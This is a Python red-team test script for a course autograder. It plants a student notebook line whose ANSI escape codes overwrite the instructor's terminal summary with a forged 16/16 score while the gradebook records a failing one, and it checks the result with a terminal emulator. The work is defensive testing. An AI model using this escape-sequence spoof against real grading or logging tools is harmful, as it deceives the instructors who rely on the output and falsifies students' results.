"""Red team round 16 (hostile): a student's shell line, quoted raw in a note, rewrites the instructor's
terminal: the autograde summary shows a score the gradebook does not hold (what the instructor sees).

    timeout 1800 python tests/redteam/round16/hostile/terminal_spoof.py

Scratch course, two students: `honest` (model answers) and `mallory` (Part 1 wrong, scored 0/1; her
Part 1 answer cell starts with a `!pip install` line that carries ANSI escapes). `unrun_shell_cells`
quotes the line in a note, `Result.line()` prints the note raw. The captured stdout of
`attnlab-course autograde` is replayed through a terminal emulator (pyte, if importable; install it
anywhere on PYTHONPATH) and the screen is printed next to the gradebook's scores.
"""
from __future__ import annotations

import os
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[3]
sys.path.insert(0, str(ROOT / "tests"))
CHAPTER = "02-scaled-attention"

ESC = "\x1b"
# erase the line, back to column 1, print a full score; the rest of the note reads as a note
LINE = f"!pip install torch{ESC}[2K{ESC}[1Gmallory                  graded      16/16  "
WRONG = LINE + "\ndef raw_scores(q, k):\n    return -((q[..., :, None, :] - k[..., None, :, :]) ** 2).sum(-1) * 0\n"


def main():
    from grading import write_submission
    from instructor_course import cli, copy_course, part_grades

    with tempfile.TemporaryDirectory(prefix="rt16h-term-") as tmp:
        tmp = Path(tmp)
        root = copy_course(tmp / "course")
        os.environ["ATTNLAB_COURSE_ROOT"] = str(root)
        os.environ.pop("ATTNLAB_GRADEBOOK_URL", None)
        assert cli("release")[0] == 0
        write_submission(CHAPTER, tmp / "download" / "honest_exercises.ipynb", {})
        write_submission(CHAPTER, tmp / "download" / "mallory_exercises.ipynb", {"raw_scores": WRONG})
        print("collect", cli("collect", CHAPTER, str(tmp / "download"))[0])
        status, out, err = cli("autograde", CHAPTER, "--workers", "1")
        print("autograde", status)
        grades = part_grades(f"sqlite:///{root / 'gradebook.db'}")
        for student, parts in sorted(grades.items()):
            print(f"gradebook: {student} {sum(s for s, _ in parts.values()):g}/16")
        print("raw summary line:", [l for l in out.splitlines() if l.startswith("mallory")])
        try:
            import pyte
        except ImportError:
            print("(pyte not importable: no screen replay)")
            return
        screen = pyte.Screen(160, 60)
        stream = pyte.Stream(screen)
        stream.feed(out.replace("\n", "\r\n"))
        print("--- what the instructor's terminal shows (summary) ---")
        shown = [line.rstrip() for line in screen.display if line.strip()]
        start = next(i for i, l in enumerate(shown) if l.startswith("student"))
        for line in shown[start:]:
            print(line)


if __name__ == "__main__":
    main()
